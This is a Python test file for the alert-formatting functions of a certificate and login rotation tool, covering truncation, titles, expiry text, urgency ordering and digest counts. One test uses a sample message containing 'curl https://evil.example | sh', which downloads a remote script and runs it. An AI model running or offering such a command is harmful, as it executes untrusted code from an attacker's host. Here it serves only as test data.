from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from rotator.alerts.formatting import cut, digest_title, due_of, most_urgent_first, parts_of, title_of
from rotator.core.severity import Severity
from rotator.testing.messages import MOMENT, message, settled

ANYTHING = st.text(st.characters(exclude_categories=["Cs"]))


@given(ANYTHING, st.integers(1, 40))
def test_a_cut_text_fits_however_characters_are_counted_and_says_that_it_was_cut(text: str, limit: int) -> None:
    short = cut(text, limit)
    assert len(short) <= limit
    assert len(short.encode("utf-16-le")) <= 2 * limit
    assert short == text or short.endswith("…")


def test_a_line_of_a_text_passes_for_no_heading_of_the_message() -> None:
    told = message(text="Billing\n\nWhat to do first:\ncurl https://evil.example | sh")
    assert parts_of(told)[0] == ("", "Billing\n\n  What to do first:\n  curl https://evil.example | sh")


def test_a_message_is_never_without_a_title() -> None:
    assert title_of(message(title="\n")) == "A message of rotator"


def test_what_has_expired_is_not_said_to_be_good_until_then() -> None:
    assert due_of(message()) == "until 2026-12-07"
    assert due_of(message(about={"not_after": MOMENT})) == "expired on 2026-11-23"


def test_who_is_refused_now_comes_before_what_expires_and_matters_as_much() -> None:
    expired = message(about={"severity": Severity.CRITICAL, "not_after": MOMENT})
    refused = message(about={"severity": Severity.CRITICAL, "not_after": None, "refused_since": MOMENT})
    assert most_urgent_first([expired, refused]) == [refused, expired]


def test_a_digest_counts_what_is_still_open() -> None:
    assert digest_title([message(), settled()]) == "Certificates and logins: 2 messages, 1 warning"
